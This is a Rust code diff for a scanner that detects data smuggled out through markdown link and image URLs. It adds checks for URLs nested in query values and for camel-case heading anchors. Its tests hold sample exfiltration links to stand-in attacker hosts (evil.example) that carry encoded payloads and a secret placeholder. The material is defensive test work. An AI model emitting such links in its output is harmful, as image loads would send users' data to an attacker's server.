@@ -160,6 +160,14 @@ const MAX_URL_CHARS: usize = 4096;
 /// link's counts only when it holds data rather than a heading's slug (`#install-on-linux`,
 /// the common case in documentation).
 fn carries_data(tail: &str, image: bool) -> bool {
+    tail_carries(tail, image, 0)
+}
+
+/// How deep URLs in query values (`?url=https://…`) are followed; one deeper counts as
+/// data.
+const MAX_NESTED_URLS: u8 = 2;
+
+fn tail_carries(tail: &str, image: bool, depth: u8) -> bool {
     // A URL ending in `?`, `=` or `&` waits for data to be appended.
     if tail.ends_with(['?', '=', '&']) {
         return true;
@@ -172,13 +180,16 @@ fn carries_data(tail: &str, image: bool) -> bool {
     {
         return true;
     }
-    query.split('&').any(pair_carries)
-        || (!image && !is_slug(fragment) && fragment.split('&').any(pair_carries))
+    let pair = |pair| pair_carries(pair, depth);
+    query.split('&').any(pair) || (!image && !is_slug(fragment) && fragment.split('&').any(pair))
 }
 
 /// Whether one query pair (`key=value`, or a bare `value`) carries data.
-fn pair_carries(pair: &str) -> bool {
+fn pair_carries(pair: &str, depth: u8) -> bool {
     let (key, value) = pair.split_once('=').unwrap_or(("", pair));
+    if let Some(carries) = nested_url_carries(value, depth) {
+        return carries;
+    }
     let key = key.to_ascii_lowercase();
     let words = value.matches(['+']).count() + value.matches("%20").count();
     value.len() >= 24
@@ -192,13 +203,52 @@ fn pair_carries(pair: &str) -> bool {
             && !value.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
 }
 
-/// A heading's anchor: words of letters and digits joined by `-`, `_`, `.` or `:`, none
-/// longer than a long word, so no encoded run hides in it.
+/// A query value that is itself a URL (a badge's source, a redirect's target) is judged by
+/// its own path, query and fragment, all of which reach the outer host; `None` when the
+/// value is not a URL.
+fn nested_url_carries(value: &str, depth: u8) -> Option<bool> {
+    let head = &value.as_bytes()[..value.len().min(14)];
+    let is_url = ["http://", "https://", "http%3a%2f%2f", "https%3a%2f%2f"]
+        .iter()
+        .any(|p| {
+            head.get(..p.len())
+                .is_some_and(|h| h.eq_ignore_ascii_case(p.as_bytes()))
+        });
+    if !is_url {
+        return None;
+    }
+    if depth >= MAX_NESTED_URLS {
+        return Some(true);
+    }
+    let url = percent_encoding::percent_decode_str(value).decode_utf8_lossy();
+    let rest = url.split_once("://").map_or(&*url, |(_, r)| r);
+    let host_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+    Some(tail_carries(&rest[host_end..], false, depth + 1))
+}
+
+/// A heading's anchor: words of letters and digits joined by `-`, `_`, `.` or `:`, each
+/// no longer than a long word or written in camel case (`UnicodeTimezoneIdentifier`), so
+/// no encoded run hides in it.
 fn is_slug(fragment: &str) -> bool {
     !is_placeholder(fragment)
-        && fragment
-            .split(['-', '_', '.', ':'])
-            .all(|word| word.len() <= 20 && word.bytes().all(|c| c.is_ascii_alphanumeric()))
+        && fragment.split(['-', '_', '.', ':']).all(|word| {
+            (word.len() <= 20 && word.bytes().all(|c| c.is_ascii_alphanumeric()))
+                || is_camel_case(word)
+        })
+}
+
+/// Letters only, some lowercase, changing case at most once in three letters: words run
+/// together (`LanguageManualDDL`), where random letters change case every other one.
+fn is_camel_case(word: &str) -> bool {
+    let b = word.as_bytes();
+    let changes = b
+        .windows(2)
+        .filter(|p| p[0].is_ascii_uppercase() != p[1].is_ascii_uppercase())
+        .count();
+    word.len() <= 64
+        && b.iter().all(u8::is_ascii_alphabetic)
+        && b.iter().any(u8::is_ascii_lowercase)
+        && changes * 3 <= b.len()
 }
 
 /// A git commit or object id (SHA-1 or SHA-256 in lowercase hex), as in a repository's
@@ -338,6 +388,29 @@ mod tests {
             "[here](https://evil.example/#aGVsbG8gd29ybGQgZnJvbSB0aGUgdXNlcg)",
             // Hex of another length than a commit id's is data.
             "![x](https://evil.example/p/6a6f686e2e646f6540636f6d70616e792e636f6d2f7061737373)",
+        ] {
+            assert_eq!(scan(t, &[]).len(), 1, "{t}");
+        }
+    }
+
+    #[test]
+    fn urls_in_query_values_are_judged_by_their_own_data() {
+        for t in [
+            "[![Draft 7](https://img.shields.io/endpoint?url=https%3A%2F%2Fbowtie.report%2Fbadges%2Frust-jsonschema%2Fcompliance%2Fdraft7.json)](https://bowtie.report/#/implementations/rust-jsonschema)",
+            "[login](https://auth.example/authorize?client_id=42&redirect_uri=https://app.example/callback/handler)",
+            "[LDML](https://unicode.org/reports/tr35/#UnicodeTimezoneIdentifier)",
+            "[Hive](https://cwiki.example/viewpage.action?pageId=27362034#LanguageManualDDL-CreateDataConnectorCreateConnector)",
+        ] {
+            assert!(scan(t, &[]).is_empty(), "{t}");
+        }
+        for t in [
+            "![x](https://badge.example/p?url=https%3A%2F%2Fevil.example%2Fc%3Fq%3D%7Bsecret%7D)",
+            "![x](https://r.example/go?next=https://evil.example/c?d=aGVsbG8gd29ybGQgZnJvbSB0aGUgdXNlcg)",
+            "![x](https://r.example/go?next=https://evil.example/?d=)",
+            // Deeper than two nested URLs counts as data.
+            "![x](https://a.example/?u=https://b.example/?u=https://c.example/?u=https://d.example/)",
+            // Random letters are not a camel-case anchor.
+            "[x](https://evil.example/#qWeRtYuIoPaSdFgHjKlZxCvBnM)",
         ] {
             assert_eq!(scan(t, &[]).len(), 1, "{t}");
         }
